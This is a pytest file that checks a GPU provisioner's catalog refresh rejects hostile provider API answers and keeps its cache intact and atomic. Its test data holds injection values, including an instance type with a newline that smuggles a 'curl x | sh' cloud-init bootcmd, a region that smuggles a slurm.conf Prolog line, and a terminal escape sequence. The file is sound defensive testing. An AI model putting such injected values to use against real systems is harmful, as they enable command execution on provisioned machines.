"""`catalog refresh` treats provider answers as untrusted: hostile values never reach the cache.

A tiny stub of Lambda's ``GET /api/v1/instance-types`` answers with one hostile value at a
time (a newline in an instance type, a slurm.conf line in a region, a negative price, a
400-digit integer, a 70 MB body, nothing at all). Refresh must survive each: no traceback,
the previous Lambda offers kept, exit 4 where nothing valid came, the hostile string absent
from the cache file. Also: refresh of one provider leaves the others' offers and dates
untouched, the write is atomic, and a truncated cache does not block refresh.
"""

from __future__ import annotations

import datetime as dt
import json
import threading
from collections.abc import Callable, Iterator
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from pydantic import ValidationError

from provisioner.catalog import load_bundled_catalog, load_catalog
from provisioner.cli import main
from provisioner.offer import Offer
from provisioner.providers.screening import offer_problem, safe_id
from provisioner.refresh import Fetched, refresh_catalog, write_atomically
from provisioner.workflow import CACHE_FILE, cache_dir, choose_catalog

KEY = "stub-lambda-key-0123456789"
H100 = {
    "name": "gpu_8x_h100_sxm5",
    "description": "8x H100 (80 GB SXM5)",
    "gpu_description": "H100 (80 GB SXM5)",
    "price_cents_per_hour": 2392,
    "specs": {"vcpus": 208, "memory_gib": 1800, "storage_gib": 22528, "gpus": 8},
}


def item(instance_type: dict[str, Any] | None = None, region: str = "us-south-2") -> dict[str, Any]:
    return {"instance_type": instance_type or H100, "regions_with_capacity_available": [{"name": region}]}


def typed(**changes: Any) -> dict[str, Any]:
    return {**H100, **changes}


class Stub:
    """Serves ``body`` (bytes, or a JSON-able value wrapped in Lambda's ``data`` envelope)."""

    def __init__(self) -> None:
        self.body: Any = {}

    def __call__(self, environ: dict[str, Any], start_response: Callable[..., Any]) -> Any:
        if isinstance(self.body, Callable):  # type: ignore[arg-type]
            start_response("200 OK", [("Content-Type", "application/json")])
            return self.body()
        payload = self.body if isinstance(self.body, bytes) else json.dumps({"data": self.body}).encode()
        start_response("200 OK", [("Content-Type", "application/json"), ("Content-Length", str(len(payload)))])
        return [payload]


@pytest.fixture
def stub(monkeypatch: pytest.MonkeyPatch) -> Iterator[Stub]:
    from werkzeug.serving import make_server

    app = Stub()
    server = make_server("127.0.0.1", 0, app, threaded=True)
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
    thread.start()
    monkeypatch.setenv("PROVISIONER_LAMBDA_API_URL", f"http://127.0.0.1:{server.server_port}")
    monkeypatch.setenv("PROVISIONER_LAMBDA_API_KEY", KEY)
    yield app
    server.shutdown()
    server.server_close()
    thread.join(timeout=10)


def _huge() -> Iterator[bytes]:
    chunk = b" " * (1024 * 1024)
    yield b'{"data": {'
    for _ in range(70):
        yield chunk


HOSTILE = {
    "newline-in-instance-type": ({"x": item(typed(name="gpu_1x\nbootcmd: [sh, -c, 'curl x | sh']"))}, "bootcmd"),
    "slurm-line-in-region": ({"x": item(region="us-east-1\nPrologSlurmctld=/tmp/x")}, "PrologSlurmctld"),
    "negative-price": ({"x": item(typed(name="gpu_neg_price", price_cents_per_hour=-2392))}, "gpu_neg_price"),
    "zero-price": ({"x": item(typed(name="gpu_free", price_cents_per_hour=0))}, "gpu_free"),
    "400-digit-integer": ({"x": item(typed(name="gpu_huge_price", price_cents_per_hour=10**400))}, "gpu_huge_price"),
    "70-MB-body": (_huge, "gpu_"),
    "empty-list": ({}, None),
}


@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_hostile_answer_keeps_previous_offers_and_exits_non_zero(
    stub: Stub, case: str, capsys: pytest.CaptureFixture[str]
) -> None:
    body, needle = HOSTILE[case]
    stub.body = body
    assert main(["catalog", "refresh", "--provider", "lambda"]) == 4
    captured = capsys.readouterr()
    assert "Traceback" not in captured.out + captured.err
    assert needle is None or needle not in captured.out + captured.err
    assert "lambda: failed" in captured.out and KEY not in captured.out + captured.err
    assert captured.err.strip().startswith("error: lambda: refresh failed")
    cache = cache_dir() / CACHE_FILE
    assert not cache.exists(), "nothing valid came, so nothing was written"
    in_use = choose_catalog(None)  # what `plan` reads next: the previous (bundled) Lambda offers
    assert [o for o in in_use.offers if o.provider == "lambda"] == [
        o for o in load_bundled_catalog().offers if o.provider == "lambda"
    ]


@pytest.mark.parametrize(
    "case", ["newline-in-instance-type", "slurm-line-in-region", "negative-price", "zero-price", "400-digit-integer"]
)
def test_hostile_offers_beside_a_good_one_are_dropped_and_counted(
    stub: Stub, case: str, capsys: pytest.CaptureFixture[str]
) -> None:
    body, needle = HOSTILE[case]
    stub.body = {**body, "good": item()}
    assert main(["catalog", "refresh", "--provider", "lambda"]) == 0
    out = capsys.readouterr().out
    assert "lambda: 1 offer; dropped 1 untrusted offer(s)" in out
    cache = cache_dir() / CACHE_FILE
    text = cache.read_text()
    assert needle not in text
    catalog = load_catalog(cache)
    live = [o for o in catalog.offers if o.provider == "lambda" and o.purchase.value == "instance"]
    assert [(o.instance_type, o.region) for o in live] == [("gpu_8x_h100_sxm5", "us-south-2")]


def test_a_previous_refresh_survives_a_hostile_one(stub: Stub, capsys: pytest.CaptureFixture[str]) -> None:
    stub.body = {"good": item()}
    assert main(["catalog", "refresh", "--provider", "lambda"]) == 0
    cache = cache_dir() / CACHE_FILE
    first = cache.read_text()
    stub.body = HOSTILE["slurm-line-in-region"][0]
    assert main(["catalog", "refresh", "--provider", "lambda"]) == 4
    assert cache.read_text() == first
    capsys.readouterr()


def _fetcher(offers: dict[str, list[Offer]]) -> Callable[[str], Fetched]:
    return lambda name: Fetched(offers[name])


def test_refresh_of_one_provider_leaves_the_others_offers_and_dates_untouched() -> None:
    bundled = load_bundled_catalog()
    lam = [
        o.model_copy(update={"price_per_hour_usd": Decimal("1.11")})
        for o in bundled.offers
        if o.provider == "lambda" and o.purchase.value == "instance"
    ][:3]
    day = dt.date(2031, 1, 2)
    result = refresh_catalog(["lambda"], clock=lambda: day, fetch=_fetcher({"lambda": lam}))
    assert result.ok and result.refreshed == ["lambda"] and result.cache is not None
    catalog = load_catalog(result.cache)
    assert catalog.providers["lambda"].as_of == day
    for name, info in catalog.providers.items():
        if name != "lambda":
            assert info.as_of == (bundled.providers[name].as_of or bundled.as_of)
            assert info.source == bundled.providers[name].source
            assert [o for o in catalog.offers if o.provider == name] == [
                o for o in bundled.offers if o.provider == name
            ]
    assert {o.key for o in catalog.offers if o.provider == "lambda" and o.purchase.value == "instance"} == {
        o.key for o in lam
    }
    clusters = [o for o in catalog.offers if o.provider == "lambda" and o.purchase.value == "reservation"]
    assert clusters and all(o.as_of == bundled.as_of and o.source for o in clusters)
    again = refresh_catalog(["lambda"], clock=lambda: day, fetch=_fetcher({"lambda": lam}))
    assert again.cache is not None
    assert load_catalog(again.cache).providers["lambda"].source.count("Live offers") == 1  # no growth


def test_a_provider_with_no_valid_offer_is_named_and_keeps_its_offers() -> None:
    bundled = load_bundled_catalog()
    result = refresh_catalog(
        ["lambda", "fluence"],
        today=dt.date(2031, 1, 2),
        fetch=_fetcher({"lambda": [], "fluence": [o for o in bundled.offers if o.provider == "fluence"][:1]}),
    )
    assert not result.ok and list(result.failed) == ["lambda"] and "no valid offer" in result.failed["lambda"]
    assert result.refreshed == ["fluence"] and result.cache is not None
    catalog = load_catalog(result.cache)
    assert [o for o in catalog.offers if o.provider == "lambda"] == [
        o for o in bundled.offers if o.provider == "lambda"
    ]
    assert catalog.providers["lambda"].as_of == bundled.as_of


def test_a_truncated_cache_does_not_block_refresh() -> None:
    cache = cache_dir() / CACHE_FILE
    cache.parent.mkdir(parents=True, exist_ok=True)
    cache.write_text('{"as_of": "2026-11-20", "providers": {"aws": {"sou')
    bundled = load_bundled_catalog()
    lam = [o for o in bundled.offers if o.provider == "lambda"][:1]
    result = refresh_catalog(["lambda"], today=dt.date(2031, 1, 2), fetch=_fetcher({"lambda": lam}))
    assert result.ok and any("bundled catalog" in line for line in result.warnings)
    assert load_catalog(cache).providers["aws"] == bundled.providers["aws"].model_copy(
        update={"as_of": bundled.providers["aws"].as_of or bundled.as_of}
    )


def test_the_cache_is_replaced_atomically(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    target = tmp_path / "catalog.json"
    target.write_text("old")

    def broken_replace(src: str, dst: str) -> None:
        raise OSError("disk full")

    monkeypatch.setattr("provisioner.refresh.os.replace", broken_replace)
    with pytest.raises(OSError):
        write_atomically(target, "new")
    assert target.read_text() == "old" and sorted(p.name for p in tmp_path.iterdir()) == ["catalog.json"]
    monkeypatch.undo()
    write_atomically(target, "new")
    assert target.read_text() == "new"


def test_safe_id_rule() -> None:
    assert safe_id("gpu_8x_h100_sxm5") and safe_id("NVIDIA+GeForce+RTX+4090") and safe_id("us-east-1")
    for bad in ("", "a\nb", "us-east-1\nPrologSlurmctld=x", "a b", "-x", "x" * 129, "a;b", "a\x00b", "é"):
        assert not safe_id(bad), bad


def test_one_nan_price_row_is_dropped_and_counted(stub: Stub, capsys: pytest.CaptureFixture[str]) -> None:
    """A NaN price (JSON ``NaN``, which Lambda's parser would accept) drops that row only."""
    stub.body = {"nan": item(typed(name="gpu_nan_price", price_cents_per_hour=float("nan"))), "good": item()}
    assert main(["catalog", "refresh", "--provider", "lambda"]) == 0
    out = capsys.readouterr().out
    assert "lambda: 1 offer; dropped 1 untrusted offer(s)" in out
    text = (cache_dir() / CACHE_FILE).read_text()
    assert "gpu_nan_price" not in text and "gpu_8x_h100_sxm5" in text


# ----- each defence layer on its own -----------------------------------------------------------------
# The offer screen (providers.screening) and the core's Offer model both refuse these values; the
# refresh tests above pass while either one works, so each is also tested without the other.
LAYER_CASES = [  # (field, value, the screen's reason), pinned row by row
    ("instance_type", "gpu_1x\nbootcmd: [sh]", "unsafe instance_type"),
    ("region", "us-east-1\nPrologSlurmctld=/tmp/x", "unsafe region"),
    ("gpu_model", "H100\x1b]0;owned\x07", "unsafe gpu_model"),
    ("price_per_hour_usd", Decimal("-23.92"), "zero or negative price"),
    ("price_per_hour_usd", Decimal("0"), "zero or negative price"),
    ("price_per_hour_usd", Decimal("NaN"), "non-finite price"),
    ("price_per_hour_usd", Decimal("1E+400"), "non-finite price"),
    ("price_per_hour_usd", Decimal("10000.01"), "absurd price"),
    ("gpus", 10**400, "out-of-range gpus"),
    ("memory_gib", float("inf"), "out-of-range memory_gib"),
]

LAYER_IDS = [f"{case[0]}-{index}" for index, case in enumerate(LAYER_CASES)]


def _good_offer() -> Offer:
    return next(o for o in load_bundled_catalog().offers if o.provider == "lambda" and o.purchase.value == "instance")


@pytest.mark.parametrize(("field", "value", "reason"), LAYER_CASES, ids=LAYER_IDS)
def test_the_offer_screen_alone_refuses_each_hostile_value(field: str, value: Any, reason: str) -> None:
    good = _good_offer()
    assert offer_problem(good) is None
    hostile = Offer.model_construct(**{**dict(good), field: value})  # the core's validation bypassed
    assert offer_problem(hostile) == reason


@pytest.mark.parametrize(("field", "value", "reason"), LAYER_CASES, ids=LAYER_IDS)
def test_the_core_offer_model_alone_refuses_each_hostile_value(field: str, value: Any, reason: str) -> None:
    good = _good_offer()
    Offer.model_validate(dict(good))
    with pytest.raises(ValidationError):
        Offer.model_validate({**dict(good), field: value})


def test_with_the_screen_stubbed_the_core_still_keeps_hostile_rows_out(
    stub: Stub, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr("provisioner.providers.screening.offer_problem", lambda offer: None)
    stub.body = {**HOSTILE["slurm-line-in-region"][0], "good": item()}
    assert main(["catalog", "refresh", "--provider", "lambda"]) == 0
    assert "dropped 1 untrusted offer(s)" in capsys.readouterr().out
    assert "PrologSlurmctld" not in (cache_dir() / CACHE_FILE).read_text()
